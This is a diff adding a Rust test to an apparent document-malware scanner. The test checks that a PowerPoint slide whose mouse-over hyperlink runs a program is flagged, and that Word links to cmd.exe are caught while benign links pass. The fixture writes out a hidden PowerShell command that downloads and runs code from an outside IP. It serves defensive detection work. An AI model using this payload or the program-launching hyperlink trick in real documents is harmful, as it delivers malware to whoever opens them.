@@ -242,3 +242,55 @@ fn an_ordinary_xlsx_with_formulas_is_clean() {
         r.findings
     );
 }
+
+/// PowerPoint's mouse-over "Run program" action: a slide's shape links
+/// to `ppaction://program` through a hyperlink whose target is the
+/// command line. The same link in Word runs the program on a click.
+#[test]
+fn a_hyperlink_to_a_program_is_blocked() {
+    let slide = b"<?xml version=\"1.0\"?><p:sld xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Title\"><a:hlinkMouseOver r:id=\"rId1\" action=\"ppaction://program\"/></p:cNvPr></p:nvSpPr></p:sp></p:spTree></p:cSld></p:sld>";
+    let slide_rels = rels(&[(
+        "hyperlink",
+        "powershell%20-NoP%20-W%20Hidden%20-c%20iex(iwr%20http://203.0.113.7/a)",
+        true,
+    )]);
+    let pptx = zip_of(
+        &[
+            (
+                "[Content_Types].xml",
+                &b"<?xml version=\"1.0\"?><Types/>"[..],
+            ),
+            ("ppt/presentation.xml", b"<p:presentation xmlns:p=\"p\"/>"),
+            ("ppt/slides/slide1.xml", slide),
+            ("ppt/slides/_rels/slide1.xml.rels", &slide_rels),
+        ],
+        Method::Deflated,
+    );
+    let r = util::scan("deck.pptx", pptx);
+    assert_eq!(
+        findings(&r, "document.external_link.handler").len(),
+        1,
+        "{:#?}",
+        r.findings
+    );
+    assert_eq!(r.verdict, Verdict::Malicious);
+    // In Word, and a control: links to a page, a download and a document.
+    let d = docx(
+        &plain_body(),
+        &rels(&[
+            ("hyperlink", "C:\\Windows\\System32\\cmd.exe", true),
+            ("hyperlink", "https://example.com/setup.exe", true),
+        ]),
+        &rels(&[]),
+    );
+    assert_eq!(util::scan("memo.docx", d).verdict, Verdict::Malicious);
+    let d = docx(
+        &plain_body(),
+        &rels(&[
+            ("hyperlink", "https://example.com/setup.exe", true),
+            ("hyperlink", "file:///C:/Reports/q3.xlsx", true),
+        ]),
+        &rels(&[]),
+    );
+    assert_clean(&util::scan("memo.docx", d));
+}
